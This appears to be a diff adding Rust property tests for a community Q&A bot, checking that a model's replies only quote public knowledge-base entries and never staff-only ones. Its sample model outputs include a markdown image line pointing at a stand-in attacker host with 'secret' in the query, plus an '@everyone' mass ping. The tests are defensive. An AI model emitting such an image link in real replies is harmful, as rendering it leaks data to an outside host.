@@ -1,0 +1,196 @@
+//! Whatever a model says, what is said is what entries say.
+
+use proptest::prelude::*;
+use uuid::Uuid;
+
+use super::{quotes, reply};
+use crate::knowledge::Base;
+use crate::knowledge::files::{self, File};
+use crate::model::Timestamp;
+use crate::model::directory::Audience;
+use crate::model::finding::{AskScope, Decision};
+use crate::model::ids::{CommunityId, IdentityId};
+use crate::storage::consult::Mode;
+use crate::storage::knowledge::StoredEntry;
+
+const TODAY: &str = "2026-11-24";
+
+/// What entries say, and what a model may say that they say.
+const SENTENCES: [&str; 6] = [
+    "Open the console and look at the page of backups.",
+    "Never share the file with anybody.",
+    "1. Stop the program.\n2. Copy the folder.",
+    "Ask the staff where you are not sure.",
+    "@everyone come here now",
+    "![](https://evil.example/?q=secret)",
+];
+
+const QUESTIONS: [&str; 5] = [
+    "How do I make a backup?",
+    "How do I restore a backup?",
+    "Where is the folder of the program?",
+    "Who are the staff here?",
+    "What happens to shared files?",
+];
+
+/// Some say of the same question: entries of these numbers, and quotes.
+#[derive(Clone, Debug)]
+struct Said {
+    answerable: bool,
+    entries: Vec<usize>,
+    quotes: Vec<(usize, usize, usize)>,
+}
+
+fn said() -> impl Strategy<Value = Said> {
+    let entries = proptest::collection::vec(0..7_usize, 0..4);
+    let quotes = proptest::collection::vec((0..SENTENCES.len(), 0..30_usize, 0..60_usize), 0..5);
+    (proptest::bool::weighted(0.9), entries, quotes).prop_map(|(answerable, entries, quotes)| Said {
+        answerable,
+        entries,
+        quotes,
+    })
+}
+
+fn written(said: &Said) -> String {
+    let quotes: Vec<String> = said
+        .quotes
+        .iter()
+        .map(|&(sentence, skip, take)| SENTENCES[sentence].chars().skip(skip).take(take).collect())
+        .collect();
+    let entries: Vec<String> = said.entries.iter().map(|number| format!("e{number}")).collect();
+    serde_json::json!({ "answerable": said.answerable, "entries": entries, "quotes": quotes }).to_string()
+}
+
+/// Entries that say some of the sentences each; the last is for staff.
+fn base(says: &[Vec<usize>]) -> Base {
+    let entries = says
+        .iter()
+        .zip(QUESTIONS)
+        .enumerate()
+        .map(|(number, (says, question))| {
+            let says: Vec<&str> = says.iter().map(|sentence| SENTENCES[*sentence % 4]).collect();
+            let visibility = if number == 4 { "staff" } else { "public" };
+            let answer = serde_json::Value::from(says.join("\n\n"));
+            let text =
+                format!("- {{id: e{number}, question: \"{question}\", answer: {answer}, visibility: {visibility}}}");
+            let name = "test.yaml".to_owned();
+            let read = files::read(&[File { name, text }]).expect("it is sound");
+            StoredEntry {
+                entry: read[0].entry.clone(),
+                file: None,
+                changed_at: Timestamp::default(),
+                changed_by: None,
+            }
+        });
+    Base::new("en", entries.collect())
+}
+
+fn scope() -> AskScope {
+    AskScope {
+        community: CommunityId(Uuid::nil()),
+        place: None,
+        platform: "discord".to_owned(),
+        audience: Audience::Public,
+        staff: false,
+        overheard: false,
+        language: None,
+        conversation: None,
+        without: Vec::new(),
+        asker: Some(IdentityId(Uuid::nil())),
+    }
+}
+
+/// What the model's reply becomes, in a community that wants it so; none where the question is not asked.
+fn decided(base: &Base, question: &str, output: &str, mode: Mode) -> Option<Decision> {
+    let shown = base.undecided(&scope(), question, TODAY)?;
+    let word = reply::read(output, &shown, mode).ok()?;
+    Some(base.weighed(&scope(), question, 3, TODAY, &word).decision)
+}
+
+/// Whether all of it stands in entries that everybody may read.
+fn is_grounded(base: &Base, decision: &Decision, mode: Mode) -> bool {
+    let stored = |id| {
+        base.get(id)
+            .map(|stored| &stored.entry)
+            .filter(|entry| entry.id.as_str() != "e4")
+    };
+    match decision {
+        Decision::Answer { entry } if mode == Mode::Select => {
+            stored(&entry.id).is_some_and(|stored| stored.answer.markdown() == entry.answer) && entry.beside.is_empty()
+        }
+        Decision::Answer { entry } => {
+            let ids = std::iter::once(&entry.id).chain(entry.beside.iter().map(|entry| &entry.id));
+            let texts: Option<Vec<String>> = ids.map(|id| stored(id).map(|entry| entry.answer.markdown())).collect();
+            let Some(texts) = texts else {
+                return false;
+            };
+            let known: Vec<&str> = texts.iter().flat_map(|text| quotes::blocks(text)).collect();
+            let blocks = quotes::blocks(&entry.answer);
+            !blocks.is_empty() && blocks.iter().all(|block| known.contains(block)) && entry.short.is_none()
+        }
+        Decision::Suggest { hits } => {
+            !hits.is_empty()
+                && hits.len() <= 3
+                && hits
+                    .iter()
+                    .all(|hit| stored(&hit.id).is_some_and(|stored| stored.question == hit.question))
+        }
+        Decision::Abstain { .. } => true,
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(256))]
+
+    #[test]
+    fn what_is_said_is_what_entries_say_whatever_a_model_says(
+        says in proptest::collection::vec(proptest::collection::vec(0..4_usize, 1..4), 5),
+        question in (0..QUESTIONS.len(), 0..4_usize),
+        said in said(),
+    ) {
+        let base = base(&says);
+        let (question, words) = (QUESTIONS[question.0], question.1);
+        // Asked in fewer words than the entry's, so that it is not decided.
+        let asked: Vec<&str> = question.trim_end_matches('?').split(' ').skip(words).collect();
+        let asked = asked.join(" ");
+        for mode in [Mode::Select, Mode::Compose] {
+            if let Some(decision) = decided(&base, &asked, &written(&said), mode) {
+                prop_assert!(is_grounded(&base, &decision, mode), "{asked}: {decision:?}");
+            }
+        }
+    }
+
+    #[test]
+    fn whatever_else_comes_back_is_no_word(output in "\\PC{0,200}") {
+        let base = base(&[vec![0], vec![1], vec![2], vec![3], vec![0]]);
+        for question in QUESTIONS {
+            let shown = base.undecided(&scope(), &question[7..], TODAY).unwrap_or_default();
+            prop_assert!(reply::read(&output, &shown, Mode::Compose).is_err());
+        }
+    }
+}
+
+#[test]
+fn the_cases_above_do_ask_and_are_answered() {
+    let base = base(&[vec![0, 1], vec![1, 2], vec![2, 3], vec![3], vec![0]]);
+    let (mut asked, mut answered) = (0, 0);
+    for (number, question) in QUESTIONS.iter().enumerate() {
+        for words in 0..4 {
+            let question: Vec<&str> = question.trim_end_matches('?').split(' ').skip(words).collect();
+            let question = question.join(" ");
+            let Some(shown) = base.undecided(&scope(), &question, TODAY) else {
+                continue;
+            };
+            asked += 1;
+            let id = format!("e{number}");
+            let Some(entry) = shown.iter().find(|entry| entry.id.as_str() == id) else {
+                continue;
+            };
+            let output =
+                serde_json::json!({ "answerable": true, "entries": [id], "quotes": [entry.answer] }).to_string();
+            let decision = decided(&base, &question, &output, Mode::Compose);
+            answered += usize::from(matches!(decision, Some(Decision::Answer { .. })));
+        }
+    }
+    assert!(asked > 3 && answered > 1, "{asked} were asked, {answered} answered");
+}
